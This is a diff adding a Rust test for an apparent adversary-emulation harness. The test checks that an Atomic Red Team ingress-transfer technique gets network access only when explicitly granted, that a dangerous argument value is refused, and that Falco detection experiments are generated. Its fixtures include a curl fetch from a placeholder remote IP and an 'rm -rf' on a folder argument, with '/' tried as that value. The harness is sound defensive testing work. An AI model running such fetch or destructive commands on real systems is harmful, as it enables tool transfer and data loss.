@@ -312,6 +312,36 @@ fn techniques_are_run_by_their_ids_against_what_the_environment_expects() {
     bench.is_clean();
 }
 
+#[test]
+fn what_was_not_granted_by_name_is_not_had_by_another_way() {
+    let arguments = "  input_arguments:\n    folder: { description: d, type: path, default: /tmp/foil-e2e }\n";
+    let fetches = test("fetches", "curl -s http://192.0.2.1/x", "");
+    let bench = bench("T1105", &[fetches, test("removes", "rm -rf #{folder}", arguments)]);
+    // The request has the target's network, and what is granted in bulk has not.
+    let review = bench.foil(&["review", "atomic.T1105-1", "--modules", "mods", "--format", "json"]).json();
+    assert_eq!(review["requests"][0]["network"], "host", "{review:#}");
+    let granted = std::fs::read_to_string(bench.path("grants.toml")).expect("there");
+    assert!(granted.contains("atomic.T1105-1") && !granted.contains("network"), "{granted}");
+    let grant = ["grant", "atomic.T1105-1", "--modules", "mods", "--yes", "--reason", "r", "--reviewer", "e"];
+    bench.foil(&grant).says(0, &[]);
+    assert!(std::fs::read_to_string(bench.path("grants.toml")).expect("there").contains("network"));
+    // Harmless as it was granted, and not with that value.
+    let fire = ["fire", "atomic.T1105-2", "--modules", "mods", "--with", "folder=/"];
+    bench.foil(&fire).says(2, &["with these values", "leave its arguments"]);
+
+    // An experiment for each, once: what somebody made of it stays.
+    let import = ["import", "atomic", "atomics", "--out", "mods", "--experiments", "x", "--expect"];
+    bench.foil(&[&import[..], &["audit"]].concat()).says(0, &["2 experiment(s) were written"]);
+    let path = bench.path("x/atomic.T1105-1.yaml");
+    let text = std::fs::read_to_string(&path).expect("written");
+    assert!(text.contains("exe: '**/curl'") && text.contains("own-rules"), "{text}");
+    std::fs::remove_file(bench.path("x/atomic.T1105-2.yaml")).expect("there");
+    bench.foil(&[&import[..], &["falco"]].concat()).says(0, &["1 experiment(s) were written"]);
+    assert_eq!(std::fs::read_to_string(&path).expect("there"), text);
+    bench.foil(&["grant", "falco.alert", "--yes", "--reason", "r", "--reviewer", "e"]).says(0, &[]);
+    bench.foil(&["plan", "x/atomic.T1105-2.yaml", "--modules", "mods"]).says(0, &["detection by falco.alert"]);
+}
+
 /// The real library, imported and granted; its folder's name is `FOIL_ATOMICS`.
 fn library() -> Option<(Bench, Vec<String>)> {
     let Some(atomics) = std::env::var_os("FOIL_ATOMICS") else {
